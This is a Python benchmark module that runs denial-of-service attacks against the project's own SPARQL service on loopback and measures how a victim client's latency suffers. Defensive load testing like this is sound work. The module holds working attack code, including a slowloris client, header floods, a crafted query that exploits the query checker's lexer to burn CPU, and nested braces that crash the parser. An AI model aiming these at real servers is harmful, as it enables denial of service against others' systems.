"""Attacks on ``lianzheng serve``, each measured from a victim's side against a baseline.

    python -m bench.attacks --release /tmp/probe/real32 [--only NAME ...] [--seconds N]
                            [--server-arg "--flag value" ...]

For every variant of every scenario below, the probe starts ``lianzheng serve`` afresh on a
free loopback port (``--query-workers 3``, every other setting at its default unless the
scenario or ``--server-arg`` says otherwise; ``LIANZHENG_*`` and ``FORWARDED_ALLOW_IPS`` are
left out of its environment), then measures a victim for ``--seconds`` twice: with no attack
(the baseline), then while the attack runs. A fresh server per variant, because the budgets an
attack spends, the answers it gets cached and the memory it leaves behind would change the next
variant's figures; a baseline in the same run, because this machine's 2 cores are shared.

Who is who. The server listens on 127.0.0.1. The attacker connects from 127.0.0.2, the victim
from 127.0.0.1 (all of 127.0.0.0/8 is loopback on Linux): the service keys its budget of query
time by the peer address, so to it they are two clients (``forwarded-for`` checks that it tells
them apart). The attacker runs in processes of its own, at nice 10 and with its open-file limit
raised to the hard limit, so that its CPU, its sockets and its failures are not the victim's;
the server keeps the open-file limit the probe was started with.

The victim, in each window, on a fixed schedule whatever the answers take (at most 20 of each
in flight, so a stalled server sees no burst), each request on a fresh connection
(``Connection: close``, so a server that stops accepting shows), 10 s time-out:

* health: ``GET /-/health`` every 20 ms;
* lookup: ``GET /sparql`` of ``SELECT ?p ?o WHERE { <case> ?p ?o }`` every 50 ms, a different
  case each time and a comment of its own, so that no cache answers.

Latency percentiles are over every victim request, failed ones included (a time-out counts as
10 s). An error is any answer but 200, a time-out or a connection that fails. The limits are
the constants :data:`HEALTH_P99_MS`, :data:`LOOKUP_P99_MS` and :data:`MAX_VICTIM_ERRORS`.

Also, per window: the server's RSS summed over its process tree (from ``/proc``, as
``bench/serve_bench.py`` reads it) at the start and at its peak, the open file descriptors of
its main process (``/proc/PID/fd``) at the start and at peak, new processes in its tree
(workers started in place of dead ones); per attack: what the attacker saw (status codes;
errors, where "unfinished at the end" is a request still unanswered or unread when the attack
ended; facts of its own), the health's ``workers_killed`` before and after, and how long after
the attack ``/-/health`` answered again with every worker alive. An attack is stopped early if the
server's RSS passes :data:`RSS_CAP` (the machine is shared); the findings say so.

How to read the tables. A baseline FAIL means the machine was too slow at that moment and the
attack beside it says little. PASS under attack: other clients did not notice it. FAIL under
attack with a PASS baseline: the attack hurt other clients; the reasons name the limit missed.

Scenarios (``--only`` takes these names):

reconcile      ``POST /reconcile``: one property-only query with 300 agency values that name
               no agency (every case tests all 300), a 100-query batch of 20 such values each
               (the most the service now takes), and a 100-query batch of long text queries.
sparql-flood   12 slow SPARQL queries at once (a count over a product of three 3,000-triple
               tables, small in memory), each sent again as soon as it returns.
slowloris      5,000 connections (and 20,000, in two processes, if the fd limits and the port
               range allow) that send a request's head one byte every 3 s and never finish it.
header-flood   4 connections streaming header lines as fast as the server takes them; single
               requests with 100,000 headers and with one 1 MB header.
query-check    4 connections POSTing ~90 KB queries that the query check (api/sparql/guard.py)
               takes seconds over and still lets through.
big-answers    4 connections asking for a ~40 MB answer from a 1 KB query and reading it at
               1 KB/s; the same query on the HTML page ``/query``.
crash-loop     nested braces that crash a SPARQL worker (pyoxigraph's parser, at a depth of
               about 2,500), sent again and again.
forwarded-for  whether a client picks its own budget key with ``X-Forwarded-For``: it spends
               one key's budget (a small one, set for this scenario), asks with the same key and
               with a new one, then floods slow queries each under a new key. From 127.0.0.2,
               and from 127.0.0.1 (the address uvicorn trusts by default; the victim is then
               127.0.0.3).

Prints a table per scenario and writes everything to ``bench/results/attacks-<time>.json``.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import csv
import dataclasses
import datetime as _dt
import errno
import itertools
import json
import math
import multiprocessing
import os
import queue
import random
import resource
import shlex
import shutil
import socket
import sys
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import httpx

from bench.serve_bench import JSON_RESULTS, LOOKUP, ROOT, Proc, free_port, memory, tree

# The limits, with or without an attack. A health check and a lookup are the cheapest things the
# service does: 50 ms and 250 ms at the 99th percentile leave room for a busy 2-core machine,
# and a victim request must never fail.
HEALTH_P99_MS = 50.0
LOOKUP_P99_MS = 250.0
MAX_VICTIM_ERRORS = 0

VICTIM, ATTACKER = "127.0.0.1", "127.0.0.2"
HEALTH_EVERY = 0.020  # seconds between the victim's health checks
LOOKUP_EVERY = 0.050  # seconds between the victim's lookups
VICTIM_TIMEOUT = 10.0
VICTIM_IN_FLIGHT = 20  # victim requests of one kind waiting at once, at most
QUERY_WORKERS = 3
SAMPLE_EVERY = 0.2  # seconds between samples of the server's memory and descriptors
RSS_CAP = 4 << 30  # bytes of server RSS past which an attack is stopped
ATTACK_LEAD = 1.5  # seconds the attacker processes get to start before the window opens
ATTACK_GRACE = 20.0  # seconds the attacker processes get to report after the window
RECOVERY_TIMEOUT = 30.0
ATTACKER_NICE = 10
FD_MARGIN = 64  # descriptors an attacker process needs besides its connections
CONNECT_AT_ONCE = 256  # connections an attacker opens at once
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)  # Linux, <netinet/in.h>

# Slow and small: a count over a three-way product of 3,000 triples each, 2.7e10 rows, in the
# memory of three 3,000-row tables. (The product of all triples, tests/api/test_e2e.py's
# CARTESIAN, is as slow on a small release, but on a million triples it fills a worker's memory
# within a second: a crash loop, not a slow query.)
SLOW_QUERY = ("SELECT (COUNT(*) AS ?n) WHERE { { SELECT ?a WHERE { ?a ?b ?c } LIMIT 3000 } "
              "{ SELECT ?d WHERE { ?d ?e ?f } LIMIT 3000 } "
              "{ SELECT ?g WHERE { ?g ?h ?i } LIMIT 3000 } }")
RECONCILE_VALUES = 300  # agency values in the property-only query
RECONCILE_ALLOWED_VALUES = 20  # values per property the service takes (pipelines/catalogue/reconcile.MAX_VALUES)
RECONCILE_BATCH = 100  # text queries in the batch (the manifest's batchSize)
RECONCILE_TEXT_CHARS = 530  # characters of each text query: a ~76 KB batch (UTF-8 JSON)
GUARD_QUERY_CHARS = 90_000
CRASH_DEPTH = 5_000  # nested groups: pyoxigraph's parser overflows its stack at about 2,500
BIG_ANSWER_PAD = 1_000  # characters in the query's literal; an answer row holds it 4 times
BIG_ANSWER_ROWS = 10_000  # the service's max_results: more are cut anyway
SLOW_READ = 1024  # bytes a second a slow reader takes
SLOW_RCVBUF = 4096  # its socket's receive buffer: the kernel keeps little of the answer for it
SLOW_BYTE_EVERY = 3.0  # seconds between the bytes of a slowloris connection


# ------------------------------------------------------------------ HTTP over plain sockets

@dataclass(frozen=True)
class Target:
    """The server and what the requests are made of (from the release)."""

    host: str
    port: int
    case_iris: tuple[str, ...]
    agency_names: tuple[str, ...]
    case_texts: tuple[str, ...]

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"


@dataclass
class Reply:
    status: int | None = None
    nbytes: int = 0  # bytes read, head included
    length: int | None = None  # Content-Length, if given
    seconds: float = 0.0
    error: str | None = None

    @property
    def ok(self) -> bool:
        return self.status == 200 and self.error is None


def http_request(target: Target, method: str, path: str, headers=(), body: bytes = b"") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {target.authority}", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in headers]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def sparql_get(target: Target, query: str, headers=()) -> bytes:
    return http_request(target, "GET", "/sparql?query=" + urllib.parse.quote(query, safe=""),
                        [("Accept", JSON_RESULTS), *headers])


def sparql_post(target: Target, query: str) -> bytes:
    headers = [("Accept", JSON_RESULTS), ("Content-Type", "application/sparql-query")]
    return http_request(target, "POST", "/sparql", headers, query.encode("utf-8"))


def error_name(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno, type(exc).__name__) if exc.errno else type(exc).__name__


async def connect(target: Target, source: str, rcvbuf: int | None = None):
    """A connection from ``source`` (its port picked at connect, so that thousands fit)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.bind((source, 0))
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (target.host, target.port))
    except BaseException:
        sock.close()
        raise
    return await asyncio.open_connection(sock=sock)


def status_of(head: bytes) -> int | None:
    parts = head.split(b"\r\n", 1)[0].split()
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/") and parts[1].isdigit():
        return int(parts[1])
    return None


async def read_reply(reader: asyncio.StreamReader, reply: Reply, read_rate: int | None) -> None:
    """Read the answer to its end into ``reply``; ``read_rate`` bytes a second if given."""
    head = b""
    while True:
        chunk = await reader.read(read_rate or 65536)
        if not chunk:
            break
        reply.nbytes += len(chunk)
        if reply.status is None:
            head += chunk
            if b"\r\n\r\n" in head or len(head) > 65536:
                reply.status = status_of(head)
                for line in head.split(b"\r\n\r\n", 1)[0].split(b"\r\n")[1:]:
                    name, _, value = line.partition(b":")
                    if name.strip().lower() == b"content-length" and value.strip().isdigit():
                        reply.length = int(value)
        if read_rate:
            await asyncio.sleep(1.0)
    if reply.status is None:
        reply.status = status_of(head)
        if reply.status is None:
            reply.error = "closed without an answer"


async def exchange(target: Target, data: bytes, *, source: str, timeout: float,
                   read_rate: int | None = None, rcvbuf: int | None = None) -> Reply:
    """Send ``data`` on a fresh connection from ``source`` and read the whole answer."""
    reply, writer = Reply(), None
    started = time.perf_counter()
    try:
        async with asyncio.timeout(timeout):
            reader, writer = await connect(target, source, rcvbuf)
            try:
                writer.write(data)
                await writer.drain()
            except ConnectionError:
                pass  # the server answered or closed before it took it all: read what it said
            await read_reply(reader, reply, read_rate)
    except TimeoutError:
        reply.error = "timeout"
    except OSError as exc:
        reply.error = error_name(exc)
    finally:
        if writer is not None:
            writer.close()
        reply.seconds = time.perf_counter() - started
    return reply


# ------------------------------------------------------------------ the victim

def percentile(values: list[float], pct: float) -> float | None:
    """Nearest rank."""
    if not values:
        return None
    ordered = sorted(values)
    return ordered[max(1, math.ceil(pct / 100 * len(ordered))) - 1]


async def paced(target: Target, make: Callable[[int], bytes], every: float, until: float,
                source: str) -> list[Reply]:
    """Requests ``make(n)`` every ``every`` seconds until ``until`` (loop time), not waiting for
    the answers (at most :data:`VICTIM_IN_FLIGHT` at once); all the replies."""
    loop = asyncio.get_running_loop()
    slots = asyncio.Semaphore(VICTIM_IN_FLIGHT)
    replies: list[Reply] = []
    tasks = []

    async def one(data: bytes) -> None:
        try:
            replies.append(await exchange(target, data, source=source, timeout=VICTIM_TIMEOUT))
        finally:
            slots.release()

    at = loop.time()
    for n in itertools.count():
        if at >= until:
            break
        await asyncio.sleep(max(0.0, at - loop.time()))
        await slots.acquire()
        tasks.append(asyncio.create_task(one(make(n))))
        at = max(at + every, loop.time())  # behind (all in flight): no burst to catch up
    await asyncio.gather(*tasks)
    return replies


def summary(replies: list[Reply]) -> dict:
    ms = [r.seconds * 1000 for r in replies]
    kinds = collections.Counter(r.error or str(r.status) for r in replies if not r.ok)
    return {"requests": len(replies), "p50_ms": percentile(ms, 50), "p99_ms": percentile(ms, 99),
            "max_ms": max(ms, default=None), "errors": sum(kinds.values()),
            "error_kinds": dict(kinds)}


async def victim(target: Target, source: str, start_at: float, seconds: float) -> dict:
    """The victim's health checks and lookups from ``start_at`` (wall clock) for ``seconds``."""
    await asyncio.sleep(max(0.0, start_at - time.time()))
    until = asyncio.get_running_loop().time() + seconds
    tag = f"{random.getrandbits(32):08x}"  # this window's lookups are its own
    health = http_request(target, "GET", "/-/health")

    def lookup(n: int) -> bytes:
        iri = target.case_iris[n % len(target.case_iris)]
        return sparql_get(target, LOOKUP.format(iri=iri) + f" # victim {tag} {n}")

    health_replies, lookup_replies = await asyncio.gather(
        paced(target, lambda n: health, HEALTH_EVERY, until, source),
        paced(target, lookup, LOOKUP_EVERY, until, source))
    return {"health": summary(health_replies), "lookup": summary(lookup_replies)}


def problems(phase: dict) -> list[str]:
    """Why a window misses the limits (none: it meets them)."""
    out = []
    for kind, limit in (("health", HEALTH_P99_MS), ("lookup", LOOKUP_P99_MS)):
        p99 = phase[kind]["p99_ms"]
        if p99 is None or p99 >= limit:
            out.append(f"{kind} p99 {'-' if p99 is None else f'{p99:,.0f}'} ms >= {limit:g}")
    errors = phase["health"]["errors"] + phase["lookup"]["errors"]
    if errors > MAX_VICTIM_ERRORS:
        out.append(f"{errors:,} victim errors")
    return out


# ------------------------------------------------------------------ the server

def open_fds(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return 0


def fd_limit(pid: int) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
            if line.startswith("Max open files"):
                return int(line.split()[3])
    except (OSError, ValueError, IndexError):
        pass
    return None


class Sampler(threading.Thread):
    """The server's memory, descriptors and processes every :data:`SAMPLE_EVERY` s, in a
    thread (reading ``/proc`` must not delay the victim); ``on_cap()`` once if its RSS passes
    :data:`RSS_CAP`."""

    def __init__(self, pid: int, on_cap: Callable[[], None] | None = None):
        super().__init__(daemon=True)
        self.pid, self.on_cap = pid, on_cap
        self.start_rss = memory(pid)["rss"]
        self.start_fds = open_fds(pid)
        self.first = set(tree(pid))
        self.seen = set(self.first)
        self.peak_rss, self.peak_fds = self.start_rss, self.start_fds
        self.capped_after: float | None = None
        self._done = threading.Event()
        self._began = time.monotonic()

    def run(self) -> None:
        while not self._done.wait(SAMPLE_EVERY):
            self.peak_rss = max(self.peak_rss, memory(self.pid)["rss"])
            self.peak_fds = max(self.peak_fds, open_fds(self.pid))
            self.seen |= set(tree(self.pid))
            if self.peak_rss > RSS_CAP and self.on_cap and self.capped_after is None:
                self.capped_after = round(time.monotonic() - self._began, 1)
                self.on_cap()

    def result(self) -> dict:
        self._done.set()
        self.join()
        out = {"rss_start": self.start_rss, "rss_peak": self.peak_rss, "fds_start": self.start_fds,
               "fds_peak": self.peak_fds, "processes_started": len(self.seen - self.first)}
        if self.capped_after is not None:
            out["attack_stopped_at_rss_cap_after_s"] = self.capped_after
        return out


class Server:
    """``lianzheng serve`` of ``release`` on a free loopback port (started as serve_bench does)."""

    def __init__(self, release: Path, work: Path, flags: list[str]):
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.command = [sys.executable, "-m", "api.cli", "serve", "--release", str(release),
                        "--releases", str(work / "releases"), "--host", "127.0.0.1",
                        "--port", str(self.port), "--query-workers", str(QUERY_WORKERS), *flags]
        env = {k: v for k, v in os.environ.items()
               if not k.startswith("LIANZHENG_") and k != "FORWARDED_ALLOW_IPS"}
        self.proc = Proc(self.command, work / f"serve-{self.port}.log", env)

    @property
    def pid(self) -> int:
        return self.proc.proc.pid

    def wait_ready(self) -> float:
        return self.proc.wait_ready(self.url + "/-/health", 600)

    def health(self) -> dict:
        try:
            r = httpx.get(self.url + "/-/health", timeout=5)
        except httpx.HTTPError as exc:
            return {"status": None, "error": type(exc).__name__}
        facts = r.json() if r.headers.get("content-type", "").startswith("application/json") else {}
        facts = facts.get("detail", facts) if r.status_code != 200 else facts
        return {"status": r.status_code, **(facts if isinstance(facts, dict) else {})}

    def recovery(self) -> float | None:
        """Seconds until ``/-/health`` answers 200 with every worker alive, or None."""
        started = time.monotonic()
        while time.monotonic() - started < RECOVERY_TIMEOUT:
            h = self.health()
            if h["status"] == 200 and h.get("workers_alive") == h.get("workers"):
                return round(time.monotonic() - started, 2)
            time.sleep(0.1)
        return None

    def stop(self) -> None:
        self.proc.stop()


# ------------------------------------------------------------------ the attacker's side

class Tally:
    """What an attacker saw: counters (summed over its processes), peaks (their maximum), facts."""

    def __init__(self):
        self.statuses: collections.Counter = collections.Counter()
        self.errors: collections.Counter = collections.Counter()
        self.counts: collections.Counter = collections.Counter()
        self.peaks: dict[str, int] = {}
        self.facts: dict = {}

    def peak(self, name: str, value: int) -> None:
        self.peaks[name] = max(self.peaks.get(name, 0), value)

    def record(self, reply: Reply) -> None:
        self.counts["requests"] += 1
        if reply.status is not None:
            self.statuses[str(reply.status)] += 1
        if reply.error:
            self.errors[reply.error] += 1
        if reply.length is not None:
            self.peak("answer_bytes", reply.length)
        self.counts["bytes_read"] += reply.nbytes

    def as_dict(self) -> dict:
        return {"statuses": dict(self.statuses), "errors": dict(self.errors),
                "counts": dict(self.counts), "peaks": dict(self.peaks), "facts": dict(self.facts)}

    @staticmethod
    def merge(parts: list[dict]) -> dict:
        out = {"statuses": collections.Counter(), "errors": collections.Counter(),
               "counts": collections.Counter(), "peaks": {}, "facts": {}}
        for part in parts:
            for key in ("statuses", "errors", "counts"):
                out[key].update(part[key])
            for name, value in part["peaks"].items():
                out["peaks"][name] = max(out["peaks"].get(name, 0), value)
            for name, value in part["facts"].items():
                out["facts"].setdefault(name, value)
        return {k: dict(v) for k, v in out.items()}


async def until(deadline: float, coros, at_end: Callable[[], None] | None = None) -> None:
    """Run ``coros`` until they end or ``deadline`` (loop time); ``at_end()`` before they stop."""
    tasks = [asyncio.ensure_future(c) for c in coros]
    try:
        await asyncio.wait(tasks, timeout=max(0.0, deadline - asyncio.get_running_loop().time()))
        if at_end is not None:
            at_end()
    finally:
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def repeat(target: Target, deadline: float, tally: Tally, *,
                 make: Callable[[Target, int], bytes], connections: int, source: str = ATTACKER,
                 read_rate: int | None = None, rcvbuf: int | None = None) -> None:
    """``connections`` clients, each sending ``make(target, i)`` and reading the answer, again as
    soon as it has it, until ``deadline``."""
    loop = asyncio.get_running_loop()

    async def client(first: int) -> None:
        for i in itertools.count(first, connections):
            left = deadline - loop.time() - 0.05
            if left <= 0:
                return
            data = make(target, i)
            tally.peak("request_bytes", len(data))
            reply = await exchange(target, data, source=source, timeout=left, read_rate=read_rate,
                                   rcvbuf=rcvbuf)
            if reply.error == "timeout":  # the time-out is the attack's end
                reply.error = "unfinished at the end"
            tally.record(reply)
            if reply.status is None and reply.error != "timeout":
                await asyncio.sleep(0.05)  # no connection: do not spin

    await until(deadline, [client(c) for c in range(connections)])


def _attacker_process(run, params: dict, target: Target, start_at: float, stop_at: float,
                      results) -> None:
    """One attacker process: wait for the window, attack until its end, send back its tally."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(ATTACKER_NICE)
    tally = Tally()

    async def attack() -> None:
        await asyncio.sleep(max(0.0, start_at - time.time()))
        deadline = asyncio.get_running_loop().time() + (stop_at - time.time())
        await run(target, deadline, tally, **params)

    try:
        asyncio.run(attack())
    except Exception as exc:  # noqa: BLE001 - reported with the findings, never the probe's end
        tally.facts["attacker_failed"] = f"{type(exc).__name__}: {exc}"
    results.put(tally.as_dict())


class Attackers:
    """The attack's processes (``spawn``: nothing of the probe's state, sockets or loop)."""

    def __init__(self, attack: Attack, target: Target, start_at: float, stop_at: float):
        ctx = multiprocessing.get_context("spawn")
        self.results = ctx.Queue()
        args = (attack.run, attack.params, target, start_at, stop_at, self.results)
        self.procs = [ctx.Process(target=_attacker_process, args=args, daemon=True)
                      for _ in range(attack.processes)]
        for p in self.procs:
            p.start()

    def kill(self) -> None:
        for p in self.procs:
            if p.is_alive():
                p.kill()

    def collect(self) -> dict:
        parts, deadline = [], time.monotonic() + ATTACK_GRACE
        while len(parts) < len(self.procs) and time.monotonic() < deadline:
            if not any(p.is_alive() for p in self.procs) and self.results.empty():
                break
            try:
                parts.append(self.results.get(timeout=0.2))
            except queue.Empty:
                continue
        self.kill()
        for p in self.procs:
            p.join(timeout=5)
        merged = Tally.merge(parts)
        if len(parts) < len(self.procs):
            merged["facts"]["attacker_processes_unreported"] = len(self.procs) - len(parts)
        return merged


# ------------------------------------------------------------------ requests the attacks send

def slow_query(target: Target, i: int, headers=()) -> bytes:
    return sparql_get(target, f"{SLOW_QUERY} # {i}", headers)


def reconcile_post(target: Target, batch: dict) -> bytes:
    body = urllib.parse.urlencode({"queries": json.dumps(batch, ensure_ascii=False)})
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    return http_request(target, "POST", "/reconcile", form, body.encode("ascii"))


def reconcile_by_agencies(target: Target, i: int) -> bytes:
    """One property-only query with :data:`RECONCILE_VALUES` agency names and slugs, each with a
    suffix of its own, so that none names an agency: every case is tested against all of them."""
    names = target.agency_names
    values = [f"{names[(i + k) % len(names)]} {i}-{k}" for k in range(RECONCILE_VALUES)]
    return reconcile_post(target, {"q0": {"properties": [{"pid": "agency", "v": values}]}})


def reconcile_allowed_most(target: Target, i: int) -> bytes:
    """The heaviest batch the service takes: :data:`RECONCILE_BATCH` property-only queries, each
    with :data:`RECONCILE_ALLOWED_VALUES` agency values (its limit) that name no agency."""
    names = target.agency_names

    def values(k: int) -> list[str]:
        return [f"{names[(i + k + j) % len(names)]} {i}-{k}-{j}" for j in range(RECONCILE_ALLOWED_VALUES)]

    return reconcile_post(target, {f"q{k}": {"properties": [{"pid": "agency", "v": values(k)}]}
                                   for k in range(RECONCILE_BATCH)})


def reconcile_texts(target: Target, i: int) -> bytes:
    """A full batch of text queries, each :data:`RECONCILE_TEXT_CHARS` of case names."""
    texts = target.case_texts

    def text(k: int) -> str:
        run = itertools.islice(itertools.cycle(texts), (i + k) % len(texts), None)
        out = ""
        while len(out) < RECONCILE_TEXT_CHARS:
            out += next(run) + " "
        return out[:RECONCILE_TEXT_CHARS]

    return reconcile_post(target, {f"q{k}": {"query": text(k)} for k in range(RECONCILE_BATCH)})


def guard_query(i: int) -> str:
    """A query that :mod:`api.sparql.guard` takes seconds to check, and passes.

    Its work bound counts lexer steps, one per token, not the characters a step reads. After an
    operand, ``<#>`` is an IRI or a less-than followed by a comment; each such ``<`` forks a
    reading whose first token is that comment, which reads to the end of the line. So ``<#>``
    over and over on one line costs two steps per three characters (within the bound) and makes
    every fork read the rest of the query; ``FROM`` in the comment line makes the full check
    run, and a ``\\u`` escape makes it run twice (on the text with escapes decoded too). The
    engine then refuses it as a syntax error, at once.
    """
    head = f"# FROM \\u0041 {i}\nASK {{ FILTER(EXISTS {{ ?a ?b "
    tail = " }) }"
    return head + "<#>" * ((GUARD_QUERY_CHARS - len(head) - len(tail)) // 3) + tail


def guard_post(target: Target, i: int) -> bytes:
    return sparql_post(target, guard_query(i))


def nested_post(target: Target, i: int) -> bytes:
    groups = "{" * CRASH_DEPTH + "}" * CRASH_DEPTH
    return sparql_post(target, f"SELECT * WHERE {groups} # {i}")


def big_answer_query(i: int) -> str:
    """About a kilobyte of query; its answer, :data:`BIG_ANSWER_ROWS` rows of 4 KB or more.

    Every triple three times over (``VALUES``: 10,000 rows from a release of 3,334 triples or
    more), evaluated lazily: a join of two triple patterns instead would be built in memory
    first, past a worker's memory limit on a million triples.
    """
    pad = "x" * BIG_ANSWER_PAD
    return (f"# big {i}\nSELECT ?s ?x WHERE {{ ?s ?p ?o VALUES ?k {{ 1 2 3 }} "
            f'BIND(CONCAT(STR(?o), "{pad}") AS ?a) BIND(CONCAT(?a, ?a, ?a, ?a) AS ?x) }} '
            f"LIMIT {BIG_ANSWER_ROWS}")


def big_answer(target: Target, i: int) -> bytes:
    return sparql_get(target, big_answer_query(i))


def big_answer_page(target: Target, i: int) -> bytes:
    path = "/query?query=" + urllib.parse.quote(big_answer_query(i), safe="")
    return http_request(target, "GET", path, [("Accept", "text/html")])


def many_headers(target: Target, i: int) -> bytes:
    return http_request(target, "GET", "/-/health", [(f"X-h{k}", "v") for k in range(100_000)])


def huge_header(target: Target, i: int) -> bytes:
    return http_request(target, "GET", "/-/health", [("X-big", "a" * 1_000_000)])


# ------------------------------------------------------------------ attacks of their own shape

async def slowloris(target: Target, deadline: float, tally: Tally, *, connections: int) -> None:
    """``connections`` requests whose head never ends: a byte every :data:`SLOW_BYTE_EVERY` s."""
    connecting = asyncio.Semaphore(CONNECT_AT_ONCE)
    held: set[int] = set()
    head = f"GET /-/health HTTP/1.1\r\nHost: {target.authority}\r\nX-a: ".encode()

    async def hold(c: int) -> None:
        async with connecting:
            try:
                reader, writer = await connect(target, ATTACKER)
            except OSError as exc:
                tally.counts["connect_failed"] += 1
                tally.errors[error_name(exc)] += 1
                return
        tally.counts["opened"] += 1
        held.add(c)
        try:
            writer.write(head)
            await asyncio.sleep(random.uniform(0, SLOW_BYTE_EVERY))
            while True:
                try:
                    data = await asyncio.wait_for(reader.read(4096), SLOW_BYTE_EVERY)
                except TimeoutError:
                    writer.write(b"a")
                    continue
                held.discard(c)
                if data:
                    tally.statuses[str(status_of(data))] += 1  # answered: the server gave up on it
                else:
                    tally.counts["closed_by_server"] += 1
                return
        except OSError as exc:
            held.discard(c)
            tally.errors[error_name(exc)] += 1
        finally:
            writer.close()

    def at_end() -> None:
        tally.counts["held_open_at_end"] = len(held)
        settled = tally.counts["opened"] + tally.counts["connect_failed"]
        tally.counts["still_connecting_at_end"] = connections - settled

    await until(deadline, [hold(c) for c in range(connections)], at_end)


async def header_stream(target: Target, deadline: float, tally: Tally, *, connections: int) -> None:
    """``connections`` requests whose head is header lines without end, written as fast as the
    server reads them; a connection the server ends is opened again."""
    start = f"GET /-/health HTTP/1.1\r\nHost: {target.authority}\r\n".encode()
    lines = b"X-a: b\r\n" * 4096

    async def stream() -> None:
        reader, writer = await connect(target, ATTACKER)
        answer = asyncio.ensure_future(reader.read(4096))
        try:
            writer.write(start)
            while not answer.done():
                writer.write(lines)
                await writer.drain()
                tally.counts["header_bytes_sent"] += len(lines)
            data = answer.result()
            if data:
                tally.statuses[str(status_of(data))] += 1
            else:
                tally.counts["closed_by_server"] += 1
        finally:
            answer.cancel()
            writer.close()

    async def client() -> None:
        while True:
            tally.counts["connections"] += 1
            try:
                await stream()
            except OSError as exc:
                tally.errors[error_name(exc)] += 1
                await asyncio.sleep(0.05)

    await until(deadline, [client() for _ in range(connections)])


def fresh_key() -> str:
    return "10.{}.{}.{}".format(*(random.randrange(256) for _ in range(3)))


async def forwarded_for(target: Target, deadline: float, tally: Tally, *, source: str,
                        other: str, connections: int) -> None:
    """Spend one ``X-Forwarded-For`` key's budget with slow queries; then ask with the same key,
    with a new one, and from ``other`` without any; then flood slow queries, a new key each."""
    loop = asyncio.get_running_loop()
    spent, n = fresh_key(), itertools.count()

    def forwarded(key: str | None) -> list[tuple[str, str]]:
        return [("X-Forwarded-For", key)] if key else []

    async def status(key: str | None, src: str = source) -> int | None:
        # a comment of its own: an answer from the cache would not ask the budget
        data = sparql_get(target, f"ASK {{}} # {next(n)}", forwarded(key))
        return (await exchange(target, data, source=src, timeout=VICTIM_TIMEOUT)).status

    began, spent_after = loop.time(), "not within the attack"
    while loop.time() < deadline - 1:
        replies = await asyncio.gather(*(
            exchange(target, slow_query(target, next(n), forwarded(spent)), source=source,
                     timeout=deadline - loop.time()) for _ in range(QUERY_WORKERS)))
        if any(r.status == 429 for r in replies):
            spent_after = round(loop.time() - began, 1)
            break
    facts = tally.facts
    facts["budget_spent_after_s"] = spent_after
    facts["same_key_status"] = await status(spent)
    facts["new_key_status"] = await status(fresh_key())
    facts["other_address_status"] = await status(None, other)
    answers = (facts["same_key_status"], facts["new_key_status"])
    facts["client_picks_its_key"] = answers == (429, 200)
    await repeat(target, deadline, tally, connections=connections, source=source,
                 make=lambda t, i: slow_query(t, i, forwarded(fresh_key())))


# ------------------------------------------------------------------ scenarios

@dataclass(frozen=True)
class Attack:
    label: str
    run: Callable  # async (target, deadline, tally, **params)
    params: dict = field(default_factory=dict)
    processes: int = 1
    held: int = 0  # connections each process keeps open at once (for the fd and port checks)
    server_flags: tuple[str, ...] = ()
    victim: str = VICTIM
    probe_facts: Callable[[], dict] | None = None  # measured by the probe itself, server stopped


@dataclass(frozen=True)
class Scenario:
    name: str
    summary: str
    attacks: tuple[Attack, ...]


def guard_cost() -> dict:
    """The query check's time for one :func:`guard_query`, here in the probe's process."""
    from api.sparql.guard import QueryRefused, inspect

    query = guard_query(0)
    started = time.perf_counter()
    try:
        verdict = f"passes ({inspect(query).form})"
    except QueryRefused as exc:
        verdict = f"refused {exc.status}: {exc.message}"
    return {"query_chars": len(query), "check_verdict": verdict,
            "check_seconds_in_probe": round(time.perf_counter() - started, 2)}


SMALL_BUDGET = ("--query-timeout", "2", "--client-budget", "4")
SLOW_READER = {"connections": 4, "read_rate": SLOW_READ, "rcvbuf": SLOW_RCVBUF}
SCENARIOS = {s.name: s for s in (
    Scenario("reconcile", "POST /reconcile, form-encoded, 3 attacker connections", (
        Attack(f"{RECONCILE_VALUES} agency values in one property-only query", repeat,
               {"make": reconcile_by_agencies, "connections": 3}),
        Attack(f"{RECONCILE_BATCH} queries of {RECONCILE_ALLOWED_VALUES} agency values (the most "
               "allowed) in one batch", repeat, {"make": reconcile_allowed_most, "connections": 3}),
        Attack(f"{RECONCILE_BATCH} text queries in one batch", repeat,
               {"make": reconcile_texts, "connections": 3}),
    )),
    Scenario("sparql-flood", "12 slow SPARQL queries at once (a count over a product of "
             "three 3,000-triple tables), "
             "each sent again as soon as it returns", (
                 Attack("12 slow queries", repeat, {"make": slow_query, "connections": 12}),
             )),
    Scenario("slowloris", f"request heads that never end: a byte every {SLOW_BYTE_EVERY:g} s", (
        Attack("5,000 connections", slowloris, {"connections": 5_000}, held=5_000),
        Attack("20,000 connections (2 processes x 10,000)", slowloris, {"connections": 10_000},
               processes=2, held=10_000),
    )),
    Scenario("header-flood", "request heads that never end, or are huge", (
        Attack("4 connections streaming header lines", header_stream, {"connections": 4}),
        Attack("100,000 headers in one request, again and again", repeat,
               {"make": many_headers, "connections": 1}),
